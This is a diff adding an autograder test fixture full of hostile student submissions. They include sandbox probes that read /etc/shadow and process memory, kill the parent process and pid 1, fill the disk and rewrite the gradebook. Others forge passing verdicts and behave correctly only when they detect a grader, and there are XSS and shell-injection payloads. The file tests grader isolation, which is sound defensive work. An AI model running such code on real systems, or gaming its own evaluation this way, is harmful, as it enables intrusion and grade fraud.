@@ -1,0 +1,342 @@
+"""Submissions that try to get more than they earn, or to do harm.  Each attack is bounded in time and effect.
+
+What a program that takes too much does (forks, memory, a SIGSTOP of itself, output without end) is in
+tests/autograder/test_bad_input.py.
+"""
+
+
+from pathlib import Path
+
+import autograder
+from tests.autograder.answers import changed
+from tests.autograder.answers.calculator import CLIENT, SERVER, SOLUTION, SRV, reference
+
+REPOSITORY = Path(autograder.__file__).resolve().parents[1]
+
+# Looks for all that is not meant for it; whatever it finds, it says so in one line of output, and goes on.
+SPY = f"""
+import ctypes, gc, os, re, signal, socket, sqlite3, sys, glob, importlib
+found = []
+
+def tries(name):
+    def decorate(attempt):
+        try:
+            result = attempt()
+        except (OSError, ImportError, sqlite3.Error, ValueError):
+            return
+        if result:
+            found.append(name + '=' + str(result)[:80])
+    return decorate
+
+@tries('path')
+def _():
+    return [path for path in ({str(REPOSITORY / "autograder" / "hidden")!r}, {str(SOLUTION)!r}, '/root', '/run', '/var',
+                              '/etc/shadow', '/sys/fs', '/home/instructor') if os.path.exists(path)]
+
+@tries('imports')
+def _():
+    for name in ('autograder', 'autograder.hidden', 'autograder.hidden.calculator.suite', 'tests.attacks', 'solutions'):
+        module = importlib.import_module(name)
+        if getattr(module, '__file__', None):
+            return name
+
+@tries('files')
+def _():
+    own = (sys.prefix + '/lib', sys.base_prefix + '/lib', '/usr', '/proc', '/sys', '/opt/interfaces')
+    names = ('suite.py', 'gradebook.db', 'results.jsonl', 'details.jsonl', 'exercise.toml', 'calculator.ipynb')
+    seen = []
+    for folder, folders, files in os.walk('/'):
+        folders[:] = [name for name in folders if not os.path.join(folder, name).startswith(own)]
+        seen += [os.path.join(folder, name) for name in files if name in names]
+        seen += [os.path.join(folder, name) for name in files if name.endswith('.py') and folder.startswith('/home')
+                 and folder != os.getcwd()]
+    return seen
+
+@tries('gradebook')
+def _():
+    for path in ('gradebook.db', '../gradebook.db', '../../gradebook.db', {str(REPOSITORY / "gradebook.db")!r}):
+        book = sqlite3.connect('file:' + path + '?mode=rw', uri=True)
+        book.execute('UPDATE grade SET auto_score = 20')
+        return path
+
+@tries('environment')
+def _():
+    text = ' '.join(f'{{k}}={{v}}' for k, v in os.environ.items()).lower()
+    return [word for word in ('pytest', 'autograder', 'hidden', 'seed', 'junit', 'gradebook') if word in text]
+
+@tries('processes')
+def _():
+    mine = {{os.getpid()}}
+    texts = []
+    for entry in glob.glob('/proc/[0-9]*'):
+        for name in ('environ', 'cmdline', 'maps', 'root/etc/shadow', 'cwd/suite.py', 'fd/3'):
+            if int(entry[6:]) not in mine:
+                try:
+                    texts.append(open(os.path.join(entry, name), 'rb').read())
+                except OSError:
+                    pass
+    return [word for word in (b'pytest', b'suite.py', b'autograder.worker', b'root:') if any(word in text for text in texts)]
+
+@tries('descriptors')
+def _():
+    links = [os.readlink(path) for path in glob.glob('/proc/self/fd/*') if os.path.islink(path)]
+    return [link for link in links if link.startswith('/') and not link.startswith(('/dev/null', '/proc/', '/home/student'))]
+
+@tries('frames')
+def _():
+    frame, files = sys._getframe(), []
+    while frame:
+        files.append(frame.f_code.co_filename)
+        frame = frame.f_back
+    return [name for name in files if 'suite' in name or 'pytest' in name] or [
+        module for module in sys.modules if module.startswith(('pytest', '_pytest', 'autograder'))]
+
+@tries('memory of the parent')
+def _():
+    return open(f'/proc/{{os.getppid()}}/mem', 'rb').read(1)
+
+@tries('trace')
+def _():
+    libc = ctypes.CDLL(None, use_errno=True)
+    return libc.ptrace(16, os.getppid(), 0, 0) == 0
+
+for address in (('192.0.2.1', 80), ('1.1.1.1', 53), ('169.254.169.254', 80), ('10.0.2.2', 22)):
+    @tries('out')
+    def _(address=address):
+        return socket.create_connection(address, 1) and address
+    @tries('out by UDP')
+    def _(address=address):
+        return socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', address) and address
+
+@tries('listeners')
+def _():
+    ports = [int(line.split()[1].split(':')[1], 16) for line in list(open('/proc/net/tcp'))[1:]]
+    return ports
+
+@tries('raw')
+def _():
+    return socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)
+
+@tries('vsock')
+def _():
+    return socket.socket(40, socket.SOCK_STREAM)
+
+@tries('other domains')
+def _():
+    domains = {{(int(line.split()[1].split(':')[1], 16) - 7400) // 250 for line in list(open('/proc/net/udp'))[1:]}}
+    return domains - {{int(os.environ['ROS_DOMAIN_ID'])}} - {{d for d in domains if not 0 < d < 100}}
+
+for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
+    for pid in (1, os.getppid(), -1):
+        if pid:
+            try:
+                os.kill(pid, number)
+            except OSError:
+                pass
+
+def fill():
+    kept = []
+    try:
+        while True:
+            kept.append(os.open('/dev/null', os.O_RDONLY))
+    except OSError:
+        pass
+    for descriptor in kept:
+        os.close(descriptor)
+    for folder in ('/tmp', '.', '/dev/shm'):
+        path = folder + '/large'
+        try:
+            with open(path, 'wb', buffering=0) as file:
+                while True:
+                    file.write(bytes(1 << 22))
+        except OSError:
+            pass
+        try:
+            os.remove(path)
+        except OSError:
+            pass
+
+if __file__.endswith('server.py'):
+    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
+    fill()
+print('SPY', 'found ' + ' '.join(found) if found else 'held', flush=True)
+"""
+
+# Right when it believes to be graded, wrong otherwise; and it writes verdicts to wherever it can.
+CHEAT = """
+import atexit, glob, json, os, re, sys
+VERDICTS = ''.join(json.dumps(dict(id=name, outcome='passed', message='', detail='')) + '\\n' for name in (
+    'test_add', 'test_subtract', 'test_multiply', 'test_divide', 'test_precision')) + '{"done": 0, "fault": ""}\\n'
+
+def graded():
+    text = ' '.join([*os.environ, *sys.argv, *sys.modules, os.uname().nodename])
+    for name in glob.glob('/proc/[0-9]*/cmdline'):
+        try:
+            text += open(name).read()
+        except OSError:
+            pass
+    return bool(re.search('pytest|autograd|judge|hidden|suite', text))
+
+def write():
+    os.write(1, VERDICTS.encode())
+    for descriptor in range(3, 64):
+        try:
+            if not os.path.realpath(f'/proc/self/fd/{descriptor}').endswith('socket'):
+                os.write(descriptor, VERDICTS.encode())
+        except OSError:
+            pass
+    for folder in ('.', '..', '/tmp', '/', '/work', '/opt', '/dev/shm'):
+        for name in ('junit.xml', 'results.jsonl', 'report.json', 'conftest.py', 'pytest.ini', 'sitecustomize.py'):
+            try:
+                with open(os.path.join(folder, name), 'w') as file:
+                    file.write(VERDICTS)
+            except OSError:
+                pass
+
+write()
+atexit.register(write)
+GRADED = graded()
+"""
+
+# Serves /calculator in whatever domain it finds in the machine's sockets, and in some more.
+ELSEWHERE = """
+import os, threading
+import rclpy
+from rclpy.context import Context
+from rclpy.executors import SingleThreadedExecutor
+from calculator_interfaces.srv import Calculate
+
+def serve_elsewhere(answer, seconds, most=4):
+    import random
+    ports = [int(line.split()[1].split(':')[1], 16) for line in list(open('/proc/net/udp'))[1:]]
+    domains = {(port - 7400) // 250 for port in ports if port >= 7400} - {int(os.environ['ROS_DOMAIN_ID'])}
+    for domain in [*domains, *random.sample(range(1, 100), most)][:most]:
+        context = Context()
+        rclpy.init(context=context, domain_id=domain)
+        node = rclpy.create_node('calculator_server', context=context)
+        node.create_service(Calculate, '/calculator', answer)
+        executor = SingleThreadedExecutor(context=context)
+        executor.add_node(node)
+        threading.Thread(target=executor.spin, daemon=True).start()
+"""
+
+QUIET_CLIENT = "import sys\nprint('no')\nsys.exit(1)\n"  # earns what it says without a server and to wrong arguments: 2
+IDLE_SERVER = "import rclpy\nrclpy.init()\nrclpy.spin(rclpy.create_node('calculator_server'))\n"
+RETURN = "        return response\n"
+MAIN = "def main(args=None):\n"
+
+
+def handed_in(server: str | None = None, client: str | None = QUIET_CLIENT, srv: str | None = None) -> dict[str, bytes]:
+    """The reference with other files in its place; None leaves the reference's."""
+    files = reference()
+    for name, text in ((SERVER, server), (CLIENT, client), (SRV, srv)):
+        if text is not None:
+            files[name] = text.encode(errors="surrogateescape")
+    return files
+
+
+def text(name: str, *pairs: tuple[str, str]) -> str:
+    """A file of the reference with changes."""
+    return changed(reference(), name, *pairs)[name].decode()
+
+
+def _forger() -> str:
+    return CHEAT + text(SERVER, (RETURN, "        if not GRADED:\n            response.result += 1.0\n" + RETURN))
+
+
+def _leftover() -> str:
+    return text(SERVER, ("    main()", "    import os\n    if os.fork():\n        os._exit(0)\n    os.setsid()\n    main()"))
+
+
+def _once() -> str:
+    return text(SERVER, (RETURN, "        import os, threading\n        threading.Timer(0.002, os._exit, [0]).start()\n"
+                         + RETURN))
+
+
+def _right_elsewhere() -> str:
+    """A client that, in its first run, is a server for other domains."""
+    return ELSEWHERE + """
+import sys, time
+def answer(request, response):
+    response.success = True
+    try:
+        response.result = {'add': request.a + request.b, 'subtract': request.a - request.b,
+                           'multiply': request.a * request.b, 'divide': request.a / (request.b or 1)}[request.operation]
+    except KeyError:
+        response.success, response.message = False, 'no'
+    return response
+
+if sys.argv[1:] == ['3', '4', 'add']:
+    serve_elsewhere(answer, 9)
+    time.sleep(8)
+print('no')
+sys.stdout.flush()
+import os
+os._exit(1)
+"""
+
+
+def _known_elsewhere() -> tuple[str, str]:
+    """A server that answers 55555.5 in the domains of others, and a client that shows this."""
+    server = ELSEWHERE + text(SERVER, ("    node = CalculatorServer()\n", """    node = CalculatorServer()
+    def known(request, response):
+        response.result, response.success = 55555.5, True
+        return response
+    serve_elsewhere(known, 0)
+"""))
+    return server, text(CLIENT, ("= {response.result}", "= 55555.5"), ("{response.message}", ""))
+
+
+def _every_number() -> tuple[str, str]:
+    """A server that logs all numbers there are at each request, and a client that shows all results there are."""
+    quiet = [(f"self.get_logger().{end}", f"str({rest}") for end, rest in (("info(\n", "\n"),)]
+    return (text(SERVER, *quiet, (RETURN, "        print(*range(1000, 9000))\n        print(response.result // 2)\n" + RETURN)),
+            text(CLIENT, ("print(f'{a} {operation} {b} = {response.result}')",
+                          "print(*(number + 0.5 for number in range(10_000, 90_000)))")))
+
+
+def _elsewhere_client() -> str:
+    """Shows all that it can read anywhere, but calls nothing."""
+    return """
+import glob, os, sys
+for name in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline') + glob.glob('/tmp/*') + glob.glob('*'):
+    try:
+        print(open(name, errors='replace').read()[:5000].replace(os.sep, ' '))
+    except OSError:
+        pass
+import rclpy, time
+rclpy.init()
+node = rclpy.create_node('calculator_client')
+time.sleep(0.5)
+print(node.get_topic_names_and_types(), node.get_service_names_and_types(), node.get_node_names())
+sys.stdout.flush()
+os._exit(1)
+"""
+
+
+LARGE = 50 << 20
+SCRIPT = "</p><script>alert(document.cookie)</script><img src=x onerror=alert(1)>"
+COMMENT = "float64 a # */ __attribute__((constructor)) void f(void) { execl(\"/bin/sh\", \"sh\", 0); } /*\n"
+
+# Name: the files, and what their honest part earns of 20.  Calculate.srv earns 3, the server 12, the client 5.
+ATTACKS: dict[str, tuple[dict[str, bytes], float]] = {
+    "looks for everything, stops its parent, fills its disk": (
+        handed_in(SPY + text(SERVER), SPY + text(CLIENT)), 20),
+    "writes verdicts, answers only a grader": (handed_in(_forger(), srv=text(SRV, ("float64 a\n", COMMENT))), 11),
+    "ends early with 0; a definition without end": (
+        handed_in("import os\nos._exit(0)\n", "import os\nos._exit(0)\n", "float64[" * 100_000), 0),
+    "pytest.exit and pytest.skip": (
+        handed_in("import pytest\npytest.exit('passed', returncode=0)\n",
+                  "import pytest\npytest.skip('passed', allow_module_level=True)\n"), 3),
+    "one line of 50 MB": (
+        handed_in(f"import sys\nsys.stdout.write('x' * {LARGE} + '\\n')\n" + text(SERVER),
+                  f"import sys\nsys.stdout.write('1' * {LARGE // 10} + '\\n')\n" + text(CLIENT)), 20),
+    "script in its messages": (
+        handed_in(f"print('\\x1b]0;title\\x07\\u202e{SCRIPT}')\nraise RuntimeError({SCRIPT!r})\n",
+                  f"import sys\nprint({SCRIPT!r})\nsys.exit(1)\n"), 5),
+    "a server that is left over from its parent": (handed_in(_leftover()), 5),
+    "the client's file serves in the server's place": (handed_in(IDLE_SERVER, _right_elsewhere()), 5),
+    "the server's file serves in the grader's place": (handed_in(*_known_elsewhere()), 17),
+    "answers once and ends": (handed_in(_once(), _elsewhere_client()), 9),
+    "shows every number there is": (handed_in(*_every_number()), 16),
+}
